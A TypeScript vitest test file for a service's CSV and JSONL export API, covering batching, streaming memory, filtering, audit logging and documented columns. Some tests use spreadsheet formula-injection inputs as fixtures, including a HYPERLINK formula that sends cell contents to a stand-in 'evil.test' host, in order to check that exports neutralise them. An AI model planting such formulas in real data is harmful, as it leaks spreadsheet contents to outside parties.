// Exports over the API: every kind in both forms, safe to open, complete beyond a batch, and in the audit trail.
import { readFile } from 'node:fs/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { systemClock } from '../../sidecar/src/clock.ts';
import { columnsOf, type ExportKind } from '../../sidecar/src/services/exports/rows.ts';
import { openExport } from '../../sidecar/src/services/exports.ts';
import { already, makeEntry, planned, planRun, refused } from '../contracts/store/given.ts';
import { fillSnapshot } from '../support/many-users.ts';
import { type ApiHarness, startApi } from './api-harness.ts';

let harness: ApiHarness;
beforeEach(async () => {
  harness = await startApi();
});
afterEach(() => harness.close());

const get = (path: string) => harness.call('GET', path);

describe('an export', () => {
  it('has everybody once, in stable columns, however many batches it takes', async () => {
    await fillSnapshot(harness.store, { users: 1_201, now: harness.now() });
    const answer = await get('/exports/users');
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="users.csv"');
    const [head, ...rows] = answer.body.trimEnd().split('\r\n');
    expect(head).toBe(columnsOf.users.join(','));
    expect(rows).toHaveLength(1_201);
    expect(new Set(rows.map((row) => row.split(',')[0])).size).toBe(1_201);
    const lines = (await get('/exports/users?format=jsonl')).body.trimEnd().split('\n');
    expect(lines).toHaveLength(1_201);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ user_key: 'key-000000', status: 'active', groups: 'everybody' });
    expect(Object.keys(JSON.parse(lines[0] ?? ''))).toEqual(columnsOf.users);
  });

  it.each(['csv', 'jsonl'] as const)(
    'reads %s no further ahead than whoever takes it, so that memory does not grow',
    async (format) => {
      await fillSnapshot(harness.store, { users: 5_001, now: harness.now() });
      const { store, config, now } = harness;
      let read = 0;
      const findUsers: typeof store.snapshots.findUsers = (query) => {
        read += 1;
        return store.snapshots.findUsers(query);
      };
      const watched = {
        store: { ...store, snapshots: { ...store.snapshots, findUsers } },
        clock: { ...systemClock, now },
        config,
      };
      const order = {
        kind: 'users',
        format,
        bom: false,
        runId: null,
        actor: { username: 'ada', userKey: 'key-ada' },
      } as const;
      const text = await openExport(watched, order);
      let taken = 0;
      let largest = 0;
      for await (const piece of text) {
        taken += 1;
        largest = Math.max(largest, String(piece).length);
        expect(read - taken).toBeLessThanOrEqual(3);
      }
      expect(read).toBe(11);
      expect(largest).toBeLessThan(500_000);
    },
  );

  it('begins with the mark of UTF-8 where that is wished, and never otherwise', async () => {
    await fillSnapshot(harness.store, { users: 1, now: harness.now() });
    expect((await get('/exports/users?bom=true')).body.startsWith('\ufeffuser_key')).toBe(true);
    expect((await get('/exports/users')).body.startsWith('user_key')).toBe(true);
    expect((await get('/exports/users?format=jsonl&bom=true')).body.startsWith('{')).toBe(true);
  });

  it('has those alone whom criteria and search mean, and refuses criteria that are none', async () => {
    await fillSnapshot(harness.store, { users: 1_201, now: harness.now() });
    const ask = (body: object) => harness.call('POST', '/exports/users', body);
    const rowsOf = async (body: object) => (await ask(body)).body.trimEnd().split('\r\n').slice(1);
    const some = { username: ['user.00000*', 'user.000010'] };
    expect(await rowsOf({ criteria: some })).toHaveLength(11);
    expect(await rowsOf({ criteria: some, search: 'user.000010' })).toHaveLength(1);
    expect(await rowsOf({})).toHaveLength(1_201);
    const answer = await ask({ criteria: { not: some }, format: 'jsonl' });
    expect(answer.headers['content-disposition']).toBe('attachment; filename="users.jsonl"');
    expect(answer.body.trimEnd().split('\n')).toHaveLength(1_190);
    const [newest] = (await get('/audit?limit=1')).json().items;
    expect(newest.details).toEqual({ what: 'users', format: 'jsonl', filtered: true });
    expect((await ask({ criteria: { moonPhase: 'full' } })).json().error.code).toBe('criteria_invalid');
    expect((await ask({ search: 'x', format: 'xml' })).statusCode).toBe(400);
  });

  it('holds none for a spreadsheet that cuts at semicolons either, and says the name as it is in lines', async () => {
    const displayName = 'Ann;=HYPERLINK("http://evil.test/?"&A2;"open")';
    await fillSnapshot(harness.store, { users: 1, now: harness.now(), displayName });
    expect((await get('/exports/users')).body).toContain(`"Ann;'=HYPERLINK(""http`);
    expect(JSON.parse((await get('/exports/users?format=jsonl')).body).display_name).toBe(displayName);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@sum(a1)', "'@sum(a1)"],
    ['\t=1', "'\t'=1"],
  ])('holds no formula for a spreadsheet: %j', async (displayName, quoted) => {
    await fillSnapshot(harness.store, { users: 1, now: harness.now(), displayName });
    const { body } = await get('/exports/users');
    expect(body).toContain(`,${quoted},`);
    const line = JSON.parse((await get('/exports/users?format=jsonl')).body);
    expect(line.display_name).toBe(displayName);
  });

  it.each(Object.keys(columnsOf) as ExportKind[])('of %s has its head and is noted before it leaves', async (kind) => {
    await fillSnapshot(harness.store, { users: 1, now: harness.now() });
    const answer = await get(`/exports/${kind}`);
    expect(answer.statusCode).toBe(200);
    expect(answer.body.split('\r\n')[0]).toBe(columnsOf[kind].join(','));
    const [newest] = (await get('/audit?limit=1')).json().items;
    expect(newest).toMatchObject({ event: 'export.made', actor: 'ada', details: { what: kind, format: 'csv' } });
    if (kind === 'audit') expect(answer.body).toContain('export.made');
  });

  it('has every run, plan and step of it once, beyond a batch too, and those of one run where it is asked for', async () => {
    const many = Array.from({ length: 501 }, (_, index) => makeEntry(`user${index}`, planned));
    const { runId } = await planRun(harness.store, 'idle', many);
    const other = await planRun(harness.store, 'leavers', [makeEntry('=ada', refused, already)]);
    const read = async (path: string): Promise<Record<string, unknown>[]> => {
      const { body } = await get(`/exports/${path}${path.includes('?') ? '&' : '?'}format=jsonl`);
      return body.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line)]));
    };
    expect(await read('runs')).toMatchObject([
      { run: other.runId, policy: 'leavers', mode: 'test' },
      { run: runId, policy: 'idle' },
    ]);
    expect(await read('plans')).toMatchObject([
      { run: other.runId, refused: 1 },
      { run: runId, planned: 501 },
    ]);
    const steps = await read('steps');
    expect(new Set(steps.map(({ step }) => step)).size).toBe(503);
    expect(steps.slice(0, 2)).toMatchObject([
      { run: other.runId, username: '=ada', outcome: 'refused', outcome_detail: 'own-account' },
      { run: other.runId, username: '=ada', outcome: 'already', outcome_detail: null },
    ]);
    expect(steps[2]).toMatchObject({ run: runId, fate: 'planned', change: 'disable', outcome: 'open' });
    expect(await read(`steps?run=${runId}`)).toHaveLength(501);
    expect(await read(`plans?run=${other.runId}`)).toMatchObject([{ run: other.runId }]);
    expect((await get(`/exports/steps?run=${other.runId}`)).body).toContain(",'=ada,");
  });

  it('has the columns that are documented, in their order', async () => {
    const text = await readFile(new URL('../../sidecar/EXPORTS.md', import.meta.url), 'utf8');
    for (const [kind, columns] of Object.entries(columnsOf)) {
      const row = text.split('\n').find((line) => line.startsWith(`| \`${kind}\``));
      expect([...(row?.split('|')[3] ?? '').matchAll(/`(\w+)`/g)].map(([, name]) => name)).toEqual(columns);
    }
  });

  it('says what is missing in place of an empty file, and notes nothing then', async () => {
    expect((await get('/exports/users')).json().error.code).toBe('no_snapshot');
    expect((await get('/exports/steps?run=7')).json().error.code).toBe('run_not_found');
    expect((await get('/exports/passwords')).statusCode).toBe(400);
    const { items } = (await get('/audit?limit=5')).json();
    expect(items.map(({ event }: { event: string }) => event)).not.toContain('export.made');
  });
});
